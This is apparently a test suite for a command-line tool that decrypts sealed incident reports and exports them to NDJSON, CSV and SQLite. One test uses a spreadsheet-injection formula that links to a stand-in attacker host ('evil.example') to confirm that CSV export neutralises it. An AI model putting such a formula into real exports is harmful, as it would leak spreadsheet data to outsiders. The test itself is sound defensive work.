/**
 * `npm run decrypt` end to end, as the analyst runs it: real key files, real batch files, the
 * real CLI in a child process; and the pipeline function for properties that need many runs.
 */
import { spawnSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fingerprint, generateCampaignKeyPair, keyId, sealReport, type CampaignKeyPair } from '../../protocol/envelope.js';
import { makeSecretKeyFile } from '../../protocol/node/key-files.js';
import type { Envelope } from '../../protocol/envelope-schema.js';
import type { Report } from '../../protocol/report-schema.js';
import { seededRandom, syntheticReport } from '../../bench/lib/synthetic-reports.js';
import { decryptFiles } from '../../scripts/decrypt/pipeline.js';
import { unlockKeys } from '../../scripts/decrypt/keys.js';

const ROOT = new URL('../..', import.meta.url).pathname;
const FAST_SCRYPT = { N: 1024, r: 8, p: 1 };

let dir: string;
let oldKey: CampaignKeyPair;
let newKey: CampaignKeyPair;

function decrypt(...args: string[]) {
  const r = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/decrypt.ts', ...args], { cwd: ROOT, encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function line(id: number, envelope: Envelope | Record<string, unknown>): string {
  return `${JSON.stringify({ id, receivedOn: '2025-03-01', envelope })}\n`;
}

function reports(count: number, seed: number): Report[] {
  const random = seededRandom(seed);
  return Array.from({ length: count }, (_, i) => syntheticReport(random, i));
}

function readNdjson(path: string): Record<string, unknown>[] {
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** A batch file of `count` synthetic reports sealed to `key`, ids 1…count. */
function sealedBatch(count: number, seed: number, key: CampaignKeyPair): string {
  const batch = fresh('batch.ndjson');
  writeFileSync(
    batch,
    reports(count, seed)
      .map((rep, i) => line(i + 1, sealReport(rep, key.publicKey)))
      .join(''),
  );
  return batch;
}

let counter = 0;
function fresh(name: string): string {
  counter += 1;
  return join(dir, `${name}-${counter}`);
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'scanwitness-decrypt-'));
  oldKey = generateCampaignKeyPair();
  newKey = generateCampaignKeyPair();
  writeFileSync(
    join(dir, 'old.key'),
    JSON.stringify(await makeSecretKeyFile('campaign-encryption', oldKey.publicKey, oldKey.secretKey, 'correct horse', FAST_SCRYPT)),
    { mode: 0o600 },
  );
  writeFileSync(
    join(dir, 'new.key'),
    JSON.stringify(await makeSecretKeyFile('campaign-encryption', newKey.publicKey, newKey.secretKey, 'correct horse', FAST_SCRYPT)),
    { mode: 0o600 },
  );
  writeFileSync(join(dir, 'pass'), 'correct horse\n', { mode: 0o600 });
  writeFileSync(join(dir, 'wrong-pass'), 'battery staple\n', { mode: 0o600 });
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

describe('npm run decrypt', () => {
  it('opens every envelope and writes NDJSON, CSV and SQLite, files readable by the owner only', () => {
    const batch = fresh('batch.ndjson');
    const input = reports(40, 1);
    writeFileSync(batch, input.map((r, i) => line(i + 1, sealReport(r, oldKey.publicKey))).join(''));
    const out = fresh('out');
    const db = fresh('out.db');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, '--sqlite', db, batch);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/40 reports written, 0 quarantined, 0 duplicates/);
    const decrypted = readNdjson(join(out, 'reports.ndjson'));
    expect(decrypted.map((d) => d.id)).toEqual(input.map((_, i) => i + 1));
    expect(decrypted.map((d) => d.report)).toEqual(input);
    expect(decrypted[0]!.receivedOn).toBe('2025-03-01');
    const csv = readFileSync(join(out, 'reports.csv'), 'utf8');
    expect(csv.startsWith('\uFEFFid,receivedOn,reporter.role,incident.date')).toBe(true);
    expect(readFileSync(join(out, 'quarantine.ndjson'), 'utf8')).toBe('');
    for (const name of ['reports.ndjson', 'reports.csv', 'quarantine.ndjson']) expect(statSync(join(out, name)).mode & 0o777).toBe(0o600);
    expect(statSync(out).mode & 0o777).toBe(0o700);
    expect(statSync(db).mode & 0o777).toBe(0o600);
    const sql = new Database(db, { readonly: true });
    expect(sql.prepare('SELECT count(*) AS n FROM reports').get()).toEqual({ n: 40 });
    const outcomes = input.reduce((n, rep) => n + (rep.outcome?.length ?? 0), 0);
    expect(sql.prepare('SELECT count(*) AS n FROM report_outcomes').get()).toEqual({ n: outcomes });
    const first = sql.prepare('SELECT incident_force, report_json FROM reports WHERE id = 1').get() as { incident_force: string; report_json: string };
    expect(first.incident_force).toBe(input[0]!.incident.force);
    expect(JSON.parse(first.report_json)).toEqual(input[0]);
    sql.close();
  });

  it('wrong passphrase: a clear message, exit 1, no output written', () => {
    const batch = fresh('batch.ndjson');
    writeFileSync(batch, line(1, sealReport(reports(1, 2)[0]!, oldKey.publicKey)));
    const out = fresh('out');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'wrong-pass'), '--out-dir', out, batch);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^decrypt: wrong passphrase for .*old\.key — try again/);
    // Never the advice to make a new key: it cannot open what is sealed to this one.
    expect(r.stderr).toContain('Do not make a new key: a new key cannot open the reports already sealed to this one');
    expect(r.stderr).not.toContain('npm run keygen');
    expect(existsSync(out)).toBe(false);
  });

  it('the wrong key: names the key id the batch needs, the keys given and the key file that opens it; keeps nothing, so the retry works', () => {
    const batch = sealedBatch(3, 21, newKey);
    const out = fresh('out');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch);
    expect(r.code).toBe(1);
    const needed = keyId(newKey.publicKey);
    expect(r.stderr).toContain('3 envelope(s) were sealed to a campaign key you did not give:');
    expect(r.stderr).toContain(`key id ${needed} (its fingerprint begins ${needed.match(/.{4}/g)!.join(' ')}): 3 envelope(s)`);
    expect(r.stderr).toContain(`would open with ${join(dir, 'new.key')} (fingerprint ${fingerprint(newKey.publicKey)})`);
    expect(r.stderr).toContain(`${join(dir, 'old.key')}: key id ${keyId(oldKey.publicKey)}, fingerprint ${fingerprint(oldKey.publicKey)}`);
    expect(r.stderr).toContain('A new key (npm run keygen) cannot open them');
    expect(existsSync(out)).toBe(false); // no empty outputs left to refuse the retry
    const retry = decrypt('--key', join(dir, 'new.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch);
    expect(retry.code).toBe(0);
    expect(readNdjson(join(out, 'reports.ndjson'))).toHaveLength(3);
  });

  it('an output folder holding an earlier run is refused before the passphrase is asked, naming --out-dir', () => {
    const batch = fresh('batch.ndjson');
    writeFileSync(batch, line(1, sealReport(reports(1, 22)[0]!, oldKey.publicKey)));
    const out = fresh('out');
    expect(decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch).code).toBe(0);
    // A wrong passphrase file: the refusal must come first, so the passphrase is never needed.
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'wrong-pass'), '--out-dir', out, batch);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/reports\.ndjson already exists \(another run's results\); .*give a new folder with --out-dir/);
    expect(r.stderr).not.toContain('passphrase');
  });

  it('missing key for a kid, truncated line, tampered ciphertext, invalid report: each quarantined with its reason, exit 3', () => {
    const batch = fresh('batch.ndjson');
    const good = reports(3, 3);
    const tampered = sealReport(good[1]!, oldKey.publicKey);
    const bytes = Buffer.from(tampered.sealed, 'base64');
    bytes[100]! ^= 1;
    const notAReport = { ...good[2]!, incident: { ...good[2]!.incident, force: 'not-a-force' } } as unknown as Report;
    const truncated = line(6, sealReport(good[0]!, oldKey.publicKey)).slice(0, 300);
    writeFileSync(
      batch,
      line(1, sealReport(good[0]!, oldKey.publicKey)) +
        line(2, sealReport(good[1]!, newKey.publicKey)) + // only old.key is given
        line(3, { ...tampered, sealed: bytes.toString('base64') }) +
        line(4, sealReport(notAReport, oldKey.publicKey)) +
        'this is not json\n' +
        truncated,
    );
    const out = fresh('out');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch);
    expect(r.code).toBe(3);
    expect(r.stdout).toMatch(/1 report written, 5 quarantined/);
    expect(r.stdout).toMatch(/1 {2}missing_key/);
    expect(r.stdout).toMatch(/1 {2}truncated_line/);
    expect(r.stdout).toMatch(/1 {2}decryption_failed/);
    expect(r.stdout).toMatch(/1 {2}invalid_report/);
    expect(r.stdout).toMatch(/1 {2}invalid_line/);
    const quarantine = readNdjson(join(out, 'quarantine.ndjson'));
    expect(quarantine.map((q) => [q.source, q.id, q.reason])).toEqual([
      [`${batch}:2`, 2, 'missing_key'],
      [`${batch}:3`, 3, 'decryption_failed'],
      [`${batch}:4`, 4, 'invalid_report'],
      [`${batch}:5`, null, 'invalid_line'],
      [`${batch}:6`, null, 'truncated_line'],
    ]);
    expect(quarantine[0]!.message).toMatch(/no secret key for kid [0-9a-f]{16}: pass its key file with --key/);
    expect(quarantine[2]!.message).toMatch(/incident\.force/);
    expect(quarantine[4]!.line).toBe(truncated);
    expect(readNdjson(join(out, 'reports.ndjson')).map((d) => d.id)).toEqual([1]);
  });

  it('key rotation: quarantined lines retried with both keys decrypt completely', () => {
    const batch = fresh('batch.ndjson');
    const input = reports(6, 4);
    writeFileSync(batch, input.map((rep, i) => line(i + 1, sealReport(rep, i % 2 ? newKey.publicKey : oldKey.publicKey))).join(''));
    const first = fresh('out');
    expect(decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', first, batch).code).toBe(3);
    const retry = fresh('retry.ndjson');
    writeFileSync(
      retry,
      readNdjson(join(first, 'quarantine.ndjson'))
        .map((q) => `${q.line as string}\n`)
        .join(''),
    );
    const second = fresh('out');
    const r = decrypt('--key', join(dir, 'old.key'), '--key', join(dir, 'new.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', second, retry);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(readNdjson(join(second, 'reports.ndjson')).map((d) => d.id)).toEqual([2, 4, 6]);
  });

  it('counts identical envelopes once and lists the copies; exit 0', () => {
    const batch = fresh('batch.ndjson');
    const envelopes = reports(3, 5).map((rep) => sealReport(rep, oldKey.publicKey));
    writeFileSync(batch, line(1, envelopes[0]!) + line(2, envelopes[1]!) + line(3, envelopes[2]!));
    const again = fresh('batch-again.ndjson');
    writeFileSync(again, line(2, envelopes[1]!) + line(9, envelopes[0]!));
    const out = fresh('out');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch, again);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/3 reports written, 0 quarantined, 2 duplicates/);
    expect(readNdjson(join(out, 'quarantine.ndjson')).map((q) => [q.source, q.reason, q.message])).toEqual([
      [`${again}:1`, 'duplicate', 'same sealed bytes as report id 2, already written: counted once'],
      [`${again}:2`, 'duplicate', 'same sealed bytes as report id 1, already written: counted once'],
    ]);
  });

  it('cuts duplicates out of the middle of a batch in every output, non-ASCII text included', () => {
    const reps = reports(4, 12);
    reps[1]!.narrative = 'Straße, café — «ünïcødé» ✓ 😀';
    reps[3]!.narrative = 'après «x»';
    const envelopes = reps.map((rep) => sealReport(rep, oldKey.publicKey));
    const batch = fresh('batch.ndjson');
    writeFileSync(
      batch,
      [line(1, envelopes[0]!), line(2, envelopes[1]!), line(5, envelopes[1]!), line(3, envelopes[2]!), line(6, envelopes[0]!), line(4, envelopes[3]!)].join(''),
    );
    const out = fresh('out');
    const db = join(out, 'reports.db');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, '--sqlite', db, batch);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/4 reports written, 0 quarantined, 2 duplicates/);
    expect(readNdjson(join(out, 'reports.ndjson')).map((d) => [d.id, (d.report as Report).narrative])).toEqual(reps.map((rep, i) => [i + 1, rep.narrative]));
    const csv = readFileSync(join(out, 'reports.csv'), 'utf8').split('\n').filter(Boolean).slice(1);
    expect(csv.map((row) => row.split(',')[0])).toEqual(['1', '2', '3', '4']);
    expect(csv[1]).toContain('"Straße, café — «ünïcødé» ✓ 😀"');
    const sqlite = new Database(db, { readonly: true });
    expect(sqlite.prepare('SELECT id, narrative FROM reports ORDER BY rowid').all()).toEqual(
      reps.map((rep, i) => ({ id: i + 1, narrative: rep.narrative ?? null })),
    );
    sqlite.close();
  });

  it('neutralises spreadsheet formulas in CSV cells', () => {
    const batch = fresh('batch.ndjson');
    const rep = reports(1, 6)[0]!;
    rep.narrative = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    rep.incident.area = '+44 road';
    rep.contact = { consent: true, details: '@me on signal' };
    writeFileSync(batch, line(1, sealReport(rep, oldKey.publicKey)));
    const out = fresh('out');
    expect(decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch).code).toBe(0);
    const csv = readFileSync(join(out, 'reports.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(",'+44 road,");
    expect(csv).toContain(",'@me on signal,");
    // The NDJSON keeps the report exactly as written.
    expect((readNdjson(join(out, 'reports.ndjson'))[0]!.report as Report).narrative).toBe(rep.narrative);
  });

  it('refuses to overwrite earlier results', () => {
    const batch = fresh('batch.ndjson');
    writeFileSync(batch, line(1, sealReport(reports(1, 7)[0]!, oldKey.publicKey)));
    const out = fresh('out');
    expect(decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch).code).toBe(0);
    const before = readFileSync(join(out, 'reports.ndjson'), 'utf8');
    const r = decrypt('--key', join(dir, 'old.key'), '--passphrase-file', join(dir, 'pass'), '--out-dir', out, batch);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/reports\.ndjson already exists \(another run's results\); decrypt never overwrites/);
    expect(readFileSync(join(out, 'reports.ndjson'), 'utf8')).toBe(before);
  });

  it('documents its exit codes in --help and rejects a passphrase on the command line', () => {
    const help = decrypt('--help');
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/Exit status:/);
    expect(help.stdout).toMatch(/3 {2}finished, but some envelopes are in the quarantine file/);
    const r = decrypt('--passphrase', 'x', 'batch.ndjson');
    expect(r.code).toBe(2);
  });
});

describe('decryptFiles', () => {
  it('gives identical outputs whatever the batch size and number of workers (input order)', async () => {
    const batch = fresh('batch.ndjson');
    const input = reports(30, 8);
    writeFileSync(batch, input.map((rep, i) => line(i + 1, sealReport(rep, oldKey.publicKey))).join(''));
    appendFileSync(batch, 'junk\n');
    const keys = await unlockKeys([join(dir, 'old.key')], async () => 'correct horse');
    const outputs: string[] = [];
    for (const [jobs, batchLines] of [
      [1, 256],
      [2, 1],
      [3, 7],
    ] as const) {
      const out = fresh('out');
      const summary = await decryptFiles({ files: [batch], keys, outDir: out, jobs, batchLines });
      expect(summary).toMatchObject({ lines: 31, opened: 30, quarantined: 1, duplicates: 0, reasons: { invalid_line: 1 } });
      outputs.push(['reports.ndjson', 'reports.csv', 'quarantine.ndjson'].map((n) => readFileSync(join(out, n), 'utf8')).join('\0'));
    }
    expect(outputs[1]).toBe(outputs[0]);
    expect(outputs[2]).toBe(outputs[0]);
  });

  it('the tweetnacl fallback decrypts exactly like sodium-native', async () => {
    const batch = sealedBatch(5, 9, oldKey);
    const keys = await unlockKeys([join(dir, 'old.key')], async () => 'correct horse');
    const a = fresh('out');
    const b = fresh('out');
    expect((await decryptFiles({ files: [batch], keys, outDir: a, backend: 'sodium-native', jobs: 1 })).backend).toBe('sodium-native');
    expect((await decryptFiles({ files: [batch], keys, outDir: b, backend: 'tweetnacl', jobs: 1 })).backend).toBe('tweetnacl');
    expect(readFileSync(join(b, 'reports.ndjson'), 'utf8')).toBe(readFileSync(join(a, 'reports.ndjson'), 'utf8'));
  });
});
